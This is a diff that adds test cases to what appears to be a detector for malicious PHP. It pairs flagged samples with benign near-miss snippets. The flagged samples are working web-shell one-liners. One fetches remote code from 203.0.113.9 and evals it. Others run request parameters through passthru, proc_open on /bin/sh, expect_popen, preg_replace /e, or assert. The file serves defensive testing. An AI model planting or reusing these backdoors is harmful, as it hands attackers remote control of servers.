@@ -386,6 +386,135 @@ CASES: list[tuple[str, bytes, bool]] = [
         True,
     ),  # blind b3 b3_walk_kv embedded
     (
+        "SPAMGEAR_OBFUSC_EvalRemoteOrFile",
+        plain(
+            "<?php\n$ch = curl_init('http://203.0.113.9/p.txt');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\neval(curl_exec($ch));\n"
+        ),
+        True,
+    ),  # blind b4 b4_curl_eval plain
+    (
+        "SPAMGEAR_OBFUSC_EvalRemoteOrFile",
+        padded(
+            "<?php\n$ch = curl_init('http://203.0.113.9/p.txt');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\neval(curl_exec($ch));\n"
+        ),
+        True,
+    ),  # blind b4 b4_curl_eval padded
+    (
+        "SPAMGEAR_OBFUSC_EvalRemoteOrFile",
+        embedded(
+            "<?php\n$ch = curl_init('http://203.0.113.9/p.txt');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\neval(curl_exec($ch));\n"
+        ),
+        True,
+    ),  # blind b4 b4_curl_eval embedded
+    (
+        "SPAMGEAR_EVASION_SplitPregModifier",
+        plain("<?php\n$e = 'e';\npreg_replace('/x/' . $e, $_POST['c'], 'x');\n"),
+        True,
+    ),  # blind b4 b4_split_e_modifier plain
+    (
+        "SPAMGEAR_EVASION_SplitPregModifier",
+        padded("<?php\n$e = 'e';\npreg_replace('/x/' . $e, $_POST['c'], 'x');\n"),
+        True,
+    ),  # blind b4 b4_split_e_modifier padded
+    (
+        "SPAMGEAR_EVASION_SplitPregModifier",
+        embedded("<?php\n$e = 'e';\npreg_replace('/x/' . $e, $_POST['c'], 'x');\n"),
+        True,
+    ),  # blind b4 b4_split_e_modifier embedded
+    (
+        "SPAMGEAR_INPUT_ShellStdinOfInput",
+        plain("<?php\n$s = expect_popen($_GET['c']);\nfpassthru($s);\n"),
+        True,
+    ),  # blind b4 b4_expect_popen plain
+    (
+        "SPAMGEAR_INPUT_ShellStdinOfInput",
+        padded("<?php\n$s = expect_popen($_GET['c']);\nfpassthru($s);\n"),
+        True,
+    ),  # blind b4 b4_expect_popen padded
+    (
+        "SPAMGEAR_INPUT_ShellStdinOfInput",
+        embedded("<?php\n$s = expect_popen($_GET['c']);\nfpassthru($s);\n"),
+        True,
+    ),  # blind b4 b4_expect_popen embedded
+    (
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        plain(
+            "<?php\nforeach (new CallbackFilterIterator(new ArrayIterator(array($_POST['x'])), 'assert') as $v) {}\n"
+        ),
+        True,
+    ),  # blind b4 b4_callback_filter_it plain
+    (
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        padded(
+            "<?php\nforeach (new CallbackFilterIterator(new ArrayIterator(array($_POST['x'])), 'assert') as $v) {}\n"
+        ),
+        True,
+    ),  # blind b4 b4_callback_filter_it padded
+    (
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        embedded(
+            "<?php\nforeach (new CallbackFilterIterator(new ArrayIterator(array($_POST['x'])), 'assert') as $v) {}\n"
+        ),
+        True,
+    ),  # blind b4 b4_callback_filter_it embedded
+    (
+        "SPAMGEAR_INPUT_ExplodedInputCall",
+        plain(
+            "<?php\nif (isset($_POST['x'])) { $y = explode(',', $_POST['x']); call_user_func($y[0], $y[1]); }\n"
+        ),
+        True,
+    ),  # blind b4 b4_explode_cuf plain
+    (
+        "SPAMGEAR_INPUT_ExplodedInputCall",
+        padded(
+            "<?php\nif (isset($_POST['x'])) { $y = explode(',', $_POST['x']); call_user_func($y[0], $y[1]); }\n"
+        ),
+        True,
+    ),  # blind b4 b4_explode_cuf padded
+    (
+        "SPAMGEAR_INPUT_ExplodedInputCall",
+        embedded(
+            "<?php\nif (isset($_POST['x'])) { $y = explode(',', $_POST['x']); call_user_func($y[0], $y[1]); }\n"
+        ),
+        True,
+    ),  # blind b4 b4_explode_cuf embedded
+    (
+        "SPAMGEAR_INPUT_ShellStdinOfInput",
+        plain(
+            "<?php\n$c = $_POST['c'];\n$p = proc_open('/bin/sh', array(array('pipe', 'r'), array('pipe', 'w'), array('pipe', 'w')), $pipes);\nfwrite($pipes[0], $c);\nfclose($pipes[0]);\necho stream_get_contents($pipes[1]);\n"
+        ),
+        True,
+    ),  # blind b4 b4_proc_stdin plain
+    (
+        "SPAMGEAR_INPUT_ShellStdinOfInput",
+        padded(
+            "<?php\n$c = $_POST['c'];\n$p = proc_open('/bin/sh', array(array('pipe', 'r'), array('pipe', 'w'), array('pipe', 'w')), $pipes);\nfwrite($pipes[0], $c);\nfclose($pipes[0]);\necho stream_get_contents($pipes[1]);\n"
+        ),
+        True,
+    ),  # blind b4 b4_proc_stdin padded
+    (
+        "SPAMGEAR_INPUT_ShellStdinOfInput",
+        embedded(
+            "<?php\n$c = $_POST['c'];\n$p = proc_open('/bin/sh', array(array('pipe', 'r'), array('pipe', 'w'), array('pipe', 'w')), $pipes);\nfwrite($pipes[0], $c);\nfclose($pipes[0]);\necho stream_get_contents($pipes[1]);\n"
+        ),
+        True,
+    ),  # blind b4 b4_proc_stdin embedded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        plain("<?php\necho passthru(strval($_GET['c']));\n"),
+        True,
+    ),  # blind b4 b4_passthru_strval plain
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        padded("<?php\necho passthru(strval($_GET['c']));\n"),
+        True,
+    ),  # blind b4 b4_passthru_strval padded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        embedded("<?php\necho passthru(strval($_GET['c']));\n"),
+        True,
+    ),  # blind b4 b4_passthru_strval embedded
+    (
         "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
         plain(
             "<?php\nPhar::mapPhar('app.phar');\nrequire 'phar://' . __FILE__ . '/vendor/autoload.php';\n__HALT_COMPILER();\n"
@@ -733,6 +862,86 @@ CASES: list[tuple[str, bytes, bool]] = [
         embedded(
             "<?php\n$clean = array();\narray_walk($_POST, function ($v, $k) use (&$clean) { $clean[$k] = sanitize_text_field($v); });\narray_walk($_GET, function (&$v, $k) { $v = trim($v); });\n"
         ),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_OBFUSC_EvalRemoteOrFile",
+        plain(
+            "<?php\n$json = curl_exec($ch);\n$data = json_decode($json, true);\n$res = curl_exec($ch);\ncurl_close($ch);\necho esc_html($res);\n"
+        ),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_OBFUSC_EvalRemoteOrFile",
+        embedded(
+            "<?php\n$json = curl_exec($ch);\n$data = json_decode($json, true);\n$res = curl_exec($ch);\ncurl_close($ch);\necho esc_html($res);\n"
+        ),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_EVASION_SplitPregModifier",
+        plain(
+            "<?php\n$e = 'e';\n$out = preg_replace('/' . $pat . '/' . $mods, $_POST['r'], $s);\n$t = preg_replace('/\\s+/', $_POST['sep'], $t);\n"
+        ),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_EVASION_SplitPregModifier",
+        embedded(
+            "<?php\n$e = 'e';\n$out = preg_replace('/' . $pat . '/' . $mods, $_POST['r'], $s);\n$t = preg_replace('/\\s+/', $_POST['sep'], $t);\n"
+        ),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_INPUT_ShellStdinOfInput",
+        plain(
+            "<?php\n$in = $_POST['text'];\n$p = proc_open('aspell -a', $spec, $pipes);\nfwrite($pipes[0], $in);\n$q = proc_open('/bin/sh', $spec, $pipes);\nfwrite($pipes[0], \"ls -la\\n\");\n"
+        ),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_INPUT_ShellStdinOfInput",
+        embedded(
+            "<?php\n$in = $_POST['text'];\n$p = proc_open('aspell -a', $spec, $pipes);\nfwrite($pipes[0], $in);\n$q = proc_open('/bin/sh', $spec, $pipes);\nfwrite($pipes[0], \"ls -la\\n\");\n"
+        ),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_INPUT_ExplodedInputCall",
+        plain(
+            "<?php\n$parts = explode(',', $_GET['ids']);\n$first = intval($parts[0]);\n$y = explode('|', $_POST['x']);\nprintf($y[0], $y[1]);\n"
+        ),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_INPUT_ExplodedInputCall",
+        embedded(
+            "<?php\n$parts = explode(',', $_GET['ids']);\n$first = intval($parts[0]);\n$y = explode('|', $_POST['x']);\nprintf($y[0], $y[1]);\n"
+        ),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        plain(
+            "<?php\n$n = new CallbackFilterIterator($it, 'is_numeric');\n$f = new CallbackFilterIterator($files, function ($f) { return $f->isFile(); });\n"
+        ),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        embedded(
+            "<?php\n$n = new CallbackFilterIterator($it, 'is_numeric');\n$f = new CallbackFilterIterator($files, function ($f) { return $f->isFile(); });\n"
+        ),
+        False,
+    ),  # near miss embedded
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        plain("<?php\necho strval($_GET['page']);\nexec('ls ' . escapeshellarg(strval($_GET['d'])));\n"),
+        False,
+    ),  # near miss plain
+    (
+        "SPAMGEAR_INPUT_ShellOfInput",
+        embedded("<?php\necho strval($_GET['page']);\nexec('ls ' . escapeshellarg(strval($_GET['d'])));\n"),
         False,
     ),  # near miss embedded
 ]
